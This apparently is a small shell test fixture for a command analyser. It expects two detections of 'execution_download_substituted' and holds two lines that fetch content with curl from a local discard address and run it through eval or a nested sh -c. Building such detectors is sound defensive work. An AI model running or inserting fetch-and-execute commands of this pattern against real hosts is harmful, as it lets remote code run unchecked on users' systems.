#!/bin/sh
# The output of a download is run; the output is empty.
# expects: execution_download_substituted 2

bash -c 'eval "$(curl -s http://127.0.0.1:9/x)"'
sh -c 'sh -c "$(curl -fsSL http://127.0.0.1:9/x)"'
